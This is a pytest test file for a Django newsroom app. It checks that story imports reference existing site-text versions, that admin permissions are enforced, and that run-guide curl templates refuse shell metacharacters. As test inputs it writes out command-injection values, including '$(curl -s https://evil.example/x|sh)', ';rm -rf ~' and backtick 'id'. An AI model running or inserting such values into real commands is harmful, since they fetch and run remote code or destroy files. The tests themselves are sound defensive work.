"""Site-wide texts belong to the site: admins add versions, an import only points at them, and
the run guide's request is held to what a reader can safely paste into a shell."""

from __future__ import annotations

import copy
import json
import shutil
import subprocess
from typing import Any

import pytest
from django.contrib.auth.models import Permission
from django.core.exceptions import ValidationError
from django.urls import reverse

from newsroom.models import Disclosure, ReuseTerms, RunGuide, SponsorAd
from stories import desk
from stories.models import Story
from stories.services import story_import_desk
from tests.stories.helpers import row_counts, run_command, seed

pytestmark = pytest.mark.django_db

SEED_GUIDE = seed()["run_these_manifests"]
INJECTION = "$(curl -s https://evil.example/x|sh)"


def with_guide(document: dict[str, Any], **request: Any) -> dict[str, Any]:
    """The document with its run guide's request changed, and its commands made to agree
    with the change (else the import would refuse the commands, not the guide)."""
    changed = copy.deepcopy(document)
    guide = changed["run_these_manifests"]
    guide["request"].update(request)
    guide["commands"] = RunGuide(**desk.run_guide_content(guide)).commands(guide["manifest_ids"])
    return changed


def refusal(document: dict[str, Any], **kwargs: Any) -> list[str]:
    with pytest.raises(desk.DeskError) as refused:
        story_import_desk(document=document, **kwargs)
    return [problem.at for problem in refused.value.problems]


def seed_guide(**changes: Any) -> RunGuide:
    return RunGuide(**{**desk.run_guide_content(SEED_GUIDE), **changes})


# --- The import points at known versions and never adds one -------------------------------------


def test_an_unknown_sponsor_is_refused_by_name_and_nothing_in_force_changes(seed_site_texts):
    in_force = SponsorAd.objects.in_force()
    before = row_counts()
    document = seed()
    document["sponsor"]["title"] = "Buy our new thing"

    assert refusal(document) == ["sponsor"]
    assert refusal(document, as_draft=True) == ["sponsor"]
    assert row_counts() == before  # no version, no story, no newsroom
    assert SponsorAd.objects.in_force() == in_force


def test_the_import_command_names_the_unknown_block_and_adds_no_version(seed_site_texts, tmp_path):
    document = seed()
    document["sponsor"]["cta"]["url"] = "https://elsewhere.example/"
    path = tmp_path / "story.json"
    path.write_text(json.dumps(document))
    before = row_counts()

    run = run_command("import_desk", "--draft", str(path))

    assert not run.ok
    assert "sponsor: equals no version of the sponsor house ad the site knows" in run.stderr
    assert row_counts() == before


def test_a_run_guide_with_a_shell_command_in_its_url_is_refused(seed_site_texts):
    document = with_guide(seed(), url_template="https://api.synorb.com/manifests/by-id/{manifest_id}" + INJECTION)
    before = row_counts()

    assert refusal(document) == ["run_these_manifests"]
    assert row_counts() == before
    assert RunGuide.objects.filter(request_url_template__contains="$(").count() == 0


def test_every_unknown_block_is_named_at_once_and_nothing_is_written():
    before = row_counts()  # the site has no site-wide texts at all

    assert sorted(refusal(seed())) == ["disclosure", "reuse", "run_these_manifests", "sponsor"]
    assert row_counts() == before


def test_a_document_without_site_text_blocks_needs_no_version():
    document = seed()
    for key in ("disclosure", "reuse", "run_these_manifests", "sponsor"):
        del document[key]

    story = story_import_desk(document=document).story

    assert (story.disclosure, story.reuse_terms, story.run_guide, story.sponsor) == (None, None, None, None)
    assert Disclosure.objects.count() == ReuseTerms.objects.count() == 0


def test_an_older_story_points_at_the_versions_of_its_day_not_those_in_force(seed_site_texts):
    old = seed_site_texts["agent-training-stack"]
    new = seed_site_texts["agentic-rl-production"]
    assert SponsorAd.objects.in_force() == new["sponsor"] != old["sponsor"]

    story = story_import_desk(document=seed()).story
    draft = story_import_desk(document=seed(), as_draft=True).story

    for imported in (story, draft):
        assert imported.sponsor == old["sponsor"]
        assert imported.run_guide == old["run_guide"]
        assert imported.disclosure == old["disclosure"]
        assert imported.reuse_terms == old["reuse_terms"]
    assert SponsorAd.objects.in_force() == new["sponsor"]
    assert RunGuide.objects.in_force() == new["run_guide"]


# --- Validation on the model -------------------------------------------------------------------


def test_the_seed_guide_is_valid():
    seed_guide().full_clean()  # raises if not


@pytest.mark.parametrize(
    ("template", "reason"),
    [
        ("https://api.synorb.com/manifests/by-id/{manifest_id}" + INJECTION, "must not contain ' ' '$' '(' ')' '|'"),
        ("https://api.synorb.com/manifests/{manifest_id}`id`", "must not contain '`'"),
        ("https://api.synorb.com/m/{manifest_id};rm -rf ~", "must not contain ' ' ';' '~'"),
        ("https://api.synorb.com/m/{manifest_id}?a=1&b=2", "must not contain '&' '?'"),
        ('https://api.synorb.com/m/"{manifest_id}"', "must not contain '\"'"),
        ("http://api.synorb.com/manifests/by-id/{manifest_id}", "must be an https:// URL"),
        ("https://api.synorb.com/manifests/by-id/", "must contain the placeholder {manifest_id}"),
        ("https://{manifest_id}", "must be a valid https:// URL"),
    ],
)
def test_a_url_template_must_be_https_with_its_placeholder_and_no_shell_metacharacters(template, reason):
    with pytest.raises(ValidationError) as refused:
        seed_guide(request_url_template=template).full_clean()
    assert list(refused.value.message_dict) == ["request_url_template"]
    assert reason in refused.value.message_dict["request_url_template"][0]


@pytest.mark.parametrize(
    ("headers", "reason"),
    [
        ([["Authorization", "Bearer " + INJECTION]], "must not contain '$' '(' ')' '|'"),
        ([["Authorization", "Bearer `id`"]], "must not contain '`'"),
        ([["Authorization", 'Bearer "<KEY>"']], "must not contain '\"'"),
        ([["Authorization", "Bearer <KEY>; rm x"]], "must not contain ';'"),
        ([["Authorization", "Bearer $KEY"]], "must not contain '$'"),
        ([["Authorization", "Bearer <KEY"]], "must not contain '<'"),
        ([["X Header", "a"]], "the name 'X Header' may hold only letters, digits and -"),
        ([["Authorization"]], "header 1 must be a [name, value] pair"),
        ({"Authorization": "Bearer <KEY>"}, "must be a list of [name, value] pairs"),
    ],
)
def test_request_headers_hold_no_shell_metacharacters(headers, reason):
    with pytest.raises(ValidationError) as refused:
        seed_guide(request_headers=headers).full_clean()
    assert list(refused.value.message_dict) == ["request_headers"]
    assert reason in refused.value.message_dict["request_headers"][0]


def test_steps_must_be_numbered_titled_texts():
    with pytest.raises(ValidationError) as refused:
        seed_guide(steps=[{"n": 1, "title": "Get a key"}]).full_clean()
    assert list(refused.value.message_dict) == ["steps"]


def test_a_version_identical_to_a_stored_one_is_refused_in_words(seed_site_texts):
    twin = Disclosure(text=seed()["disclosure"])
    with pytest.raises(ValidationError) as refused:
        twin.full_clean()
    assert "identical to the disclosure from 2026-10-16 00:39" in str(refused.value)


# --- Commands: every value shell-quoted ---------------------------------------------------------


def test_the_seed_commands_are_as_the_seed_prints_them():
    assert seed_guide().commands(SEED_GUIDE["manifest_ids"]) == SEED_GUIDE["commands"]


def run_in_bash(command: str, tmp_path) -> list[list[str]]:
    """Run a printed command in a real bash, with curl replaced by a function that reports the
    arguments it was given, one call a line; the reader's secret is in $SYNORB_KEY."""
    bash = shutil.which("bash")
    if bash is None:
        pytest.skip("bash is not installed")
    script = 'curl() { printf "%s\\x1f" "$@"; printf "\\n"; }\nSYNORB_KEY=s3cret\n' + command + "\n"
    done = subprocess.run([bash, "-c", script], cwd=tmp_path, capture_output=True, text=True, check=True)
    return [line.split("\x1f")[:-1] for line in done.stdout.splitlines()]


def test_a_guide_saved_without_validation_still_prints_only_inert_commands(tmp_path):
    # A version stored some other way (a shell, a data migration) skipped validation; its
    # commands must still run nothing but curl, with every value as written.
    marker = tmp_path / "ran"
    payload = f"$(touch {marker})`touch {marker}`;touch {marker}"
    guide = seed_guide(
        request_url_template="https://api.synorb.com/m/{manifest_id}" + payload,
        request_headers=[["Authorization", "Bearer <SYNORB_KEY>"], ["X-Note", f"<SYNORB_KEY>{payload}"]],
    )
    ids = ["1792067182956183080", f"id;touch {marker}"]

    commands = guide.commands(ids)
    one = run_in_bash(commands["one"], tmp_path)
    each = run_in_bash(commands["all"], tmp_path)

    assert not marker.exists()
    headers = ["-H", "Authorization: Bearer s3cret", "-H", f"X-Note: <SYNORB_KEY>{payload}"]
    assert one == [["-s", *headers, f"https://api.synorb.com/m/{ids[0]}{payload}"]]
    assert each == [["-s", *headers, f"https://api.synorb.com/m/{manifest_id}{payload}"] for manifest_id in ids]


def test_a_valid_guide_fills_in_the_readers_secret_and_each_id(tmp_path):
    guide = seed_guide(
        request_url_template="https://api.example.org/v1/{manifest_id}_full.json",
        request_headers=[["Authorization", "Bearer <SYNORB_KEY>"], ["X-Client", "demo 1"]],
    )
    guide.full_clean()
    ids = ["a.1", "b-2"]

    each = run_in_bash(guide.commands(ids)["all"], tmp_path)

    headers = ["-H", "Authorization: Bearer s3cret", "-H", "X-Client: demo 1"]
    assert each == [["-s", *headers, f"https://api.example.org/v1/{manifest_id}_full.json"] for manifest_id in ids]


# --- Admin: only those who may add versions add them --------------------------------------------


def staff_user(django_user_model, *codenames: str) -> Any:
    user = django_user_model.objects.create_user(username="editor", password="pw", is_staff=True)
    for codename in codenames:
        user.user_permissions.add(Permission.objects.get(content_type__app_label="newsroom", codename=codename))
    return user


def guide_form(**changes: str) -> dict[str, str]:
    guide = desk.run_guide_content(SEED_GUIDE)
    return {
        "effective_from_0": "2026-11-01",
        "effective_from_1": "00:00:00",
        "title": guide["title"],
        "summary": "A newer summary.",
        "steps": json.dumps(guide["steps"]),
        "mcp_url": guide["mcp_url"],
        "connect_url": guide["connect_url"],
        "request_method": guide["request_method"],
        "request_url_template": guide["request_url_template"],
        "request_headers": json.dumps(guide["request_headers"]),
        **changes,
    }


def test_a_superuser_adds_a_version_in_admin(admin_client):
    response = admin_client.post(reverse("admin:newsroom_runguide_add"), guide_form())
    assert response.status_code == 302
    assert RunGuide.objects.get().summary == "A newer summary."


def test_admin_shows_shell_metacharacters_as_errors_of_their_fields(admin_client):
    response = admin_client.post(
        reverse("admin:newsroom_runguide_add"),
        guide_form(
            request_url_template="https://api.synorb.com/m/{manifest_id}" + INJECTION,
            request_headers=json.dumps([["Authorization", "Bearer `id`"]]),
        ),
    )
    assert response.status_code == 200
    errors = response.context["adminform"].form.errors
    assert sorted(errors) == ["request_headers", "request_url_template"]
    assert "must not contain" in errors["request_url_template"][0]
    assert "must not contain '`'" in errors["request_headers"][0]
    assert RunGuide.objects.count() == 0


def test_admin_refuses_an_identical_version_with_a_message(admin_client, seed_site_texts):
    form = guide_form(summary=SEED_GUIDE["summary"], effective_from_0="2026-11-02")
    response = admin_client.post(reverse("admin:newsroom_runguide_add"), form)
    assert response.status_code == 200
    assert "identical to the run-these-manifests guide from 2026-10-16" in str(
        response.context["adminform"].form.non_field_errors()
    )
    assert RunGuide.objects.count() == 2


def test_a_staff_editor_who_may_view_and_change_site_texts_may_not_add_one(client, django_user_model):
    client.force_login(staff_user(django_user_model, "view_runguide", "change_runguide"))
    assert client.get(reverse("admin:newsroom_runguide_changelist")).status_code == 200
    assert client.get(reverse("admin:newsroom_runguide_add")).status_code == 403
    assert client.post(reverse("admin:newsroom_runguide_add"), guide_form()).status_code == 403
    assert RunGuide.objects.count() == 0


def test_a_holder_of_the_add_permission_may_add_a_version(client, django_user_model):
    client.force_login(staff_user(django_user_model, "view_runguide", "add_runguide"))
    assert client.post(reverse("admin:newsroom_runguide_add"), guide_form()).status_code == 302
    assert RunGuide.objects.count() == 1


def test_a_staff_editor_may_not_delete_a_version_no_story_carries(client, django_user_model):
    version = Disclosure.objects.create(text="An unused disclosure.")
    client.force_login(staff_user(django_user_model, "view_disclosure", "change_disclosure"))
    url = reverse("admin:newsroom_disclosure_delete", args=[version.pk])
    assert client.post(url, {"post": "yes"}).status_code == 403
    assert Disclosure.objects.filter(pk=version.pk).exists()


def test_a_version_a_story_carries_cannot_be_deleted_even_by_a_superuser(admin_client, seed_site_texts):
    story_import_desk(document=seed())
    version = Story.objects.get().disclosure
    url = reverse("admin:newsroom_disclosure_delete", args=[version.pk])
    assert admin_client.post(url, {"post": "yes"}).status_code == 403
    assert Disclosure.objects.filter(pk=version.pk).exists()


# --- The demo adds the seeds' versions itself ---------------------------------------------------


def test_load_demo_adds_the_seeds_versions_from_their_days_and_the_seeds_point_at_them(site_url):
    assert run_command("load_demo").ok
    assert run_command("load_demo").ok  # again: nothing added twice

    older, newer = Story.objects.order_by("published_at")
    # The seeds' disclosure (a checked story by an agent), and one for each other label and writer.
    assert (Disclosure.objects.for_label("checked", "agent").count(), ReuseTerms.objects.count()) == (1, 1)
    assert Disclosure.objects.count() == 8
    assert (RunGuide.objects.count(), SponsorAd.objects.count()) == (2, 2)
    for story in (older, newer):
        for field in ("disclosure", "reuse_terms", "run_guide", "sponsor"):
            version = getattr(story, field)
            first_carrier = older if field in ("disclosure", "reuse_terms") else story
            assert version.effective_from == first_carrier.published_at, (story.slug, field)
    assert older.run_guide.steps[0]["text"].startswith("Open https://synorb.com/connect")
    assert newer.sponsor.title == "Run the cited Manifests yourself"
    for story in (older, newer):
        exported = run_command("export_desk", "--id", str(story.desk_id))
        assert json.loads(exported.stdout) == seed(story.slug)
